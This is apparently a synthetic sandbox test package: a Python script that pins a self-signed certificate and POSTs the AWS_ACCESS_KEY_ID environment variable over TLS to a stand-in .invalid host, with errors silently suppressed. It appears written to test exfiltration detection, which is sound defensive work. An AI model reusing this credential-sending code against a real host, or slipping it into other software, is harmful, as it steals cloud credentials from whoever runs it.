# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import os
import socket
import ssl

# the only certificate this client trusts (public part of a throwaway self-signed certificate)
PINNED = """-----BEGIN CERTIFICATE-----
MIIBbTCCAROgAwIBAgIBATAKBggqhkjOPQQDAjAjMSEwHwYDVQQDDBhwaW5uZWQu
ZXhmaWwtdGxzLmludmFsaWQwHhcNMjYwMTAxMDAwMDAwWhcNMzUxMjMwMDAwMDAw
WjAjMSEwHwYDVQQDDBhwaW5uZWQuZXhmaWwtdGxzLmludmFsaWQwWTATBgcqhkjO
PQIBBggqhkjOPQMBBwNCAAT/htGae9Rbm9Gq4xbtqx1eyN7okIvbvhClJlTofVEB
z73vx9mLsrYbgVpb+EoPKH1hAbC3W38t2biPKCUaXp5JozgwNjAPBgNVHRMBAf8E
BTADAQH/MCMGA1UdEQQcMBqCGHBpbm5lZC5leGZpbC10bHMuaW52YWxpZDAKBggq
hkjOPQQDAgNIADBFAiBPjW+vp61DznAJxIwScZnunIC6aREmJ/Jenl2PXfV7HQIh
ANHhvFM+jBx+NJZljx0WlvR7UaeHzrEOsltFDZh7bp/E
-----END CERTIFICATE-----
"""

try:
    ctx = ssl.create_default_context(cadata=PINNED)
    raw = socket.create_connection(("pinned.exfil-tls.invalid", 443), timeout=5)
    with ctx.wrap_socket(raw, server_hostname="pinned.exfil-tls.invalid") as s:
        s.sendall(b"POST /p HTTP/1.1\r\nHost: pinned.exfil-tls.invalid\r\nContent-Length: 20\r\n\r\n"
                  + os.environ.get("AWS_ACCESS_KEY_ID", "").encode())
except Exception:
    pass
